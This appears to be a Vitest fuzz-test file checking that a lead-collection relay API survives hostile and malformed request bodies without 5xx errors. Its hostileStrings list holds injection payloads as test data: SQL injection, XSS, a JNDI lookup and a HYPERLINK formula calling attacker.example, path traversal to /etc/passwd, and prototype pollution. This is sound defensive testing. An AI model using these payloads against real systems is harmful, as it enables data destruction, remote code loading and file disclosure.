/**
 * Hostile and malformed bodies, generated from a fixed seed so a failure can be replayed: whatever
 * arrives, the relay answers 2xx, 400, 413 or 415, never a 5xx, and stores only valid leads.
 */
import { describe, expect, it } from 'vitest'
import { validLead } from '../test-support/lead-fixtures'
import { databaseKinds } from '../test-support/test-databases'
import { useTestRelay } from '../test-support/test-relay'

/** A small deterministic generator (mulberry32). */
function seededRandom(seed: number): () => number {
  let state = seed
  return () => {
    state = (state + 0x6d2b79f5) | 0
    let t = Math.imul(state ^ (state >>> 15), 1 | state)
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296
  }
}

const hostileStrings = [
  "'; DROP TABLE leads; --",
  "' OR '1'='1",
  '"; SELECT pg_sleep(10); --',
  '$1::jsonb',
  '<script>alert(1)</script>',
  '{{7*7}}',
  '${jndi:ldap://attacker.example/a}',
  '=HYPERLINK("http://attacker.example")',
  '../../../../etc/passwd',
  '\u0000',
  'nul\u0000inside',
  '\ud800',
  '\udfff\ud800',
  '👨‍👩‍👧‍👦'.repeat(40),
  'ﷺ'.repeat(300),
  '\u202eevil\u202c',
  'Ünïcödé ß 日本語 עברית',
  ' \t\r\n ',
  '0612345678\n0612345678',
  'x'.repeat(199),
  'x'.repeat(201),
  'a@b.c'.padStart(5_000, 'a'),
  '__proto__',
  'constructor',
]

const oddValues: unknown[] = [
  null,
  true,
  false,
  0,
  -1,
  1e308,
  Number.MAX_SAFE_INTEGER,
  [],
  ['06 12 34 56 78'],
  {},
  { $ne: '' },
  { toString: 'x' },
  '',
]

const fieldNames = [...Object.keys(validLead()), 'event_id', 'site_web', 'extra']

function mutatedLead(random: () => number): unknown {
  const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)]!
  const lead: Record<string, unknown> = validLead()
  const changes = 1 + Math.floor(random() * 3)
  for (let index = 0; index < changes; index += 1) {
    const field = pick(fieldNames)
    const roll = random()
    if (roll < 0.45) lead[field] = pick(hostileStrings)
    else if (roll < 0.8) lead[field] = pick(oddValues)
    else if (roll < 0.9)
      lead[field] = undefined // left out of the JSON
    else
      lead[field] = `${typeof lead[field] === 'string' ? lead[field] : ''}${pick(hostileStrings)}`
  }
  return lead
}

const rawBodies = [
  '',
  ' ',
  '{',
  '}',
  '[',
  '{"nom":',
  '{"nom": "a", "nom": "b"}',
  'null',
  'true',
  '42',
  '"string"',
  '[{}]',
  '{"constructor": {"prototype": {"polluted": true}}}',
  '{"__proto__": []}',
  '\u0000',
  '\ufeff{}',
  '{"a":' + '['.repeat(5_000) + ']'.repeat(5_000) + '}',
  'x'.repeat(20_000),
]

describe.each(databaseKinds())('fuzzed bodies on the %s database', (kind) => {
  const relay = useTestRelay(kind)

  const post = (url: string, payload: string, contentType = 'application/json') =>
    relay().app.inject({ method: 'POST', url, headers: { 'content-type': contentType }, payload })

  it('never answers a 5xx to 400 mutated leads, and stores only the valid ones', async () => {
    const random = seededRandom(20_261_122)
    const statuses = new Map<number, number>()
    for (let index = 0; index < 400; index += 1) {
      const body = mutatedLead(random)
      const response = await post('/api/leads', JSON.stringify(body))
      statuses.set(response.statusCode, (statuses.get(response.statusCode) ?? 0) + 1)
      expect([202, 400, 413], `body ${JSON.stringify(body).slice(0, 300)}`).toContain(
        response.statusCode,
      )
    }
    expect(statuses.get(400)).toBeGreaterThan(50)
    const stored = await relay().db.query<{ payload: { email: string; telephone: string } }>(
      'SELECT payload FROM leads',
    )
    for (const { payload } of stored) {
      expect(payload.telephone).toMatch(/^0\d{9}$/)
      expect(payload.email).not.toMatch(/\s/)
    }
    expect(await relay().db.query('SELECT 1 FROM leads')).not.toHaveLength(0)
  })

  it.each(rawBodies.map((body) => [body.slice(0, 30), body]))(
    'answers a 4xx to the raw body %j',
    async (_label, body) => {
      for (const type of ['application/json', 'text/plain', 'application/x-www-form-urlencoded']) {
        for (const url of ['/api/leads', '/api/page-views', '/api/funnel']) {
          const response = await post(url, body, type)
          expect(response.statusCode, `${url} ${type}`).toBeGreaterThanOrEqual(400)
          expect(response.statusCode, `${url} ${type}`).toBeLessThan(500)
        }
      }
    },
  )

  it('never answers a 5xx to 200 mutated page views', async () => {
    const random = seededRandom(7)
    for (let index = 0; index < 200; index += 1) {
      const event: Record<string, unknown> = {
        event: 'page_view',
        uid: 'abc',
        clicked_at_iso8601: '2026-11-22T10:00:00Z',
      }
      const field = ['event', 'uid', 'clicked_at_iso8601', 'other'][Math.floor(random() * 4)]!
      const pool = random() < 0.5 ? hostileStrings : oddValues
      event[field] = pool[Math.floor(random() * pool.length)]
      const response = await post('/api/page-views', JSON.stringify(event), 'text/plain')
      expect([202, 400, 413]).toContain(response.statusCode)
    }
  })

  it('never answers a 5xx to 200 mutated funnel reports, and counts only known steps', async () => {
    const random = seededRandom(12)
    for (let index = 0; index < 200; index += 1) {
      const report: Record<string, unknown> = { step: 'view', utm_campaign: 'c', utm_content: 'a' }
      const field = ['step', 'utm_campaign', 'utm_content', 'other'][Math.floor(random() * 4)]!
      const pool = random() < 0.5 ? hostileStrings : oddValues
      report[field] = pool[Math.floor(random() * pool.length)]
      const response = await post('/api/funnel', JSON.stringify(report), 'text/plain')
      expect([204, 400, 413]).toContain(response.statusCode)
    }
    const steps = await relay().db.query<{ step: string }>(
      'SELECT DISTINCT step FROM funnel_counts',
    )
    expect(steps.map((row) => row.step).every((step) => step === 'view' || step === 'lead')).toBe(
      true,
    )
  })

  it('still works after the onslaught, with its tables intact', async () => {
    const response = await post('/api/leads', JSON.stringify(validLead()))
    expect(response.statusCode).toBe(202)
    const health = await relay().app.inject({ method: 'GET', url: '/healthz' })
    expect(health.statusCode).toBe(200)
  })
})
